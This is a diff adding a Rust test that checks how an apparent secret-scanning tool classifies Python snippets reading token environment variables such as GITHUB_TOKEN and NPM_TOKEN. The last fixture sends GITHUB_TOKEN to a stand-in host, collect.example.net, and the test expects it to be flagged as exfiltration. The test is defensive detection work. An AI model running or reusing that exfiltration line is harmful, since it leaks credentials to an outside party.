@@ -3692,3 +3692,43 @@ fn deletes_that_climb_above_the_project() {
     ];
     check_all(rows);
 }
+
+/// A test of whether a token variable is set (`not os.environ.get(X)`, `os.getenv(X) is None`,
+/// `if os.environ.get(X):`) reads no value (issue 17): as JavaScript's `!process.env.X` already
+/// was. The value kept in a variable, or sent anywhere, is still a read.
+#[test]
+fn presence_tests_of_token_variables() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, sys\nif not os.environ.get('GITHUB_TOKEN'):\n    print('note: export GITHUB_TOKEN first')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os, sys\nif os.getenv('NPM_TOKEN') is None:\n    sys.exit('set NPM_TOKEN')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os\nif os.environ.get('STRIPE_SECRET_KEY'):\n    print('stripe configured')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os\ntoken = os.environ.get('GITHUB_TOKEN')\nif not token:\n    print('missing')\n",
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Py,
+            "import os, urllib.request\nif not os.environ.get('GITHUB_TOKEN'):\n    raise SystemExit('missing')\nurllib.request.urlopen('https://collect.example.net/?t=' + os.environ['GITHUB_TOKEN'])\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(rows);
+}
